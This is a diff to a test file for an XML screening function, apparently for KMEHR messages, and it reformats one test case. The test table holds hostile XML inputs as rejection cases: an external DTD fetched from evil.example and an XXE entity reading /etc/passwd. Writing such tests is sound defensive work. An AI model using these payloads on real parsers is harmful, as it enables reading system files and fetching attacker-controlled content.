@@ -23,7 +23,11 @@ describe('screenXml', () => {
 
   it.each([
     ['plain DOCTYPE', `<!DOCTYPE kmehrmessage>${ROOT}`, 'XML_DOCTYPE_FORBIDDEN'],
-    ['DOCTYPE after BOM, declaration, whitespace, comment and PI', `\ufeff<?xml version="1.0"?>\n  <!-- hello --><?x y?>\n<!DOCTYPE kmehrmessage>${ROOT}`, 'XML_DOCTYPE_FORBIDDEN'],
+    [
+      'DOCTYPE after BOM, declaration, whitespace, comment and PI',
+      `\ufeff<?xml version="1.0"?>\n  <!-- hello --><?x y?>\n<!DOCTYPE kmehrmessage>${ROOT}`,
+      'XML_DOCTYPE_FORBIDDEN',
+    ],
     ['lower-case doctype', `<!doctype kmehrmessage>${ROOT}`, 'XML_DOCTYPE_FORBIDDEN'],
     ['external DTD', `<!DOCTYPE kmehrmessage SYSTEM "http://evil.example/k.dtd">${ROOT}`, 'XML_EXTERNAL_ENTITY'],
     ['XXE', `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>${ROOT}`, 'XML_EXTERNAL_ENTITY'],
